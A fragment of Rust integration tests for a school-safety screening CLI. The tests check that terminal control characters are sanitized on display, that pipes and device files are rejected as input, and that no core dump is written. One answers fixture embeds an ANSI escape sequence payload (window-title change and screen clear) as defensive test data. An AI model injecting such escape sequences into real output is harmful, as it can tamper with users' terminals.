        "[answers]\nrole = \"teacher\"\nnotes = \"\\u001b]0;TITLE\\u0007\\u001b[2Jhello\"\n",
    );
    env.ok(&["screen", "school-safety@1.0.0", "--answers", &answers]);
    let bundle = env.path("b.qgb");
    env.ok(&["export", "--yes", "--out", &bundle]);
    let hub = |args: &[&str]| {
        let mut all = vec![
            "--data-dir".to_owned(),
            env.path("hub"),
            "--passphrase-file".to_owned(),
            env.path("hub-pass"),
        ];
        all.extend(args.iter().map(|a| (*a).to_owned()));
        let all: Vec<&str> = all.iter().map(String::as_str).collect();
        env.ok(&all)
    };
    hub(&["hub", "enroll", &env.path("device/device-card.toml")]);
    hub(&["hub", "import", &bundle]);
    let id = env.store().pending().unwrap()[0].record_id.clone();
    let shown = hub(&["hub", "record", "show", &id]);
    assert!(shown.contains("]0;TITLE"), "{shown}");
    assert!(
        !shown.contains('\u{1b}') && !shown.contains('\u{7}'),
        "{shown:?}"
    );
}

#[cfg(unix)]
#[test]
fn p10_p11_pipes_and_devices_are_refused_not_waited_for_or_read_whole() {
    let env = Env::new();
    let answers = env.answers("a.toml", ANSWERS);
    env.ok(&["screen", "school-safety@1.0.0", "--answers", &answers]);
    let fifo = env.root.join("fifo.toml");
    assert!(std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let fifo = fifo.display().to_string();
    let started = Instant::now();
    for args in [
        vec!["screen", "school-safety@1.0.0", "--answers", fifo.as_str()],
        vec!["ack", fifo.as_str()],
        vec![
            "protocol",
            "score",
            "school-safety",
            "--answers",
            fifo.as_str(),
        ],
    ] {
        let message = env.fails(&args);
        assert!(
            message.contains("not a regular file"),
            "{args:?}: {message}"
        );
    }
    let output = env
        .command(&["--passphrase-file", &fifo, "records"])
        .env_remove("QORGAU_PASSPHRASE_FILE")
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1));
    let output = env
        .command(&[
            "--data-dir",
            &env.path("hub"),
            "--passphrase-file",
            &env.path("hub-pass"),
            "hub",
            "import",
            "/dev/zero",
        ])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&output.stdout).contains("not a regular file"));
    assert!(started.elapsed() < Duration::from_secs(30));
}

#[cfg(target_os = "linux")]
#[test]
fn f16_the_process_writes_no_core_dump() {
    use std::io::{BufRead, BufReader};
    let env = Env::new();
    let answers = env.answers("a.toml", ANSWERS);
    let mut child = env
        .command(&["screen", "school-safety@1.0.0", "--answers", &answers])
        .env("QORGAU_TEST_PAUSE_MS", "3000")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(child.stderr.take().unwrap()).lines();
    let first = lines.next().unwrap().unwrap();
    assert_eq!(first, "saved answer 1");
    let limits = fs::read_to_string(format!("/proc/{}/limits", child.id())).unwrap();
    child.kill().unwrap();
    child.wait().unwrap();
    let core = limits
        .lines()
        .find(|l| l.starts_with("Max core file size"))
        .unwrap();
    let fields: Vec<&str> = core.split_whitespace().collect();
    assert_eq!(&fields[4..6], &["0", "0"], "{core}");
}
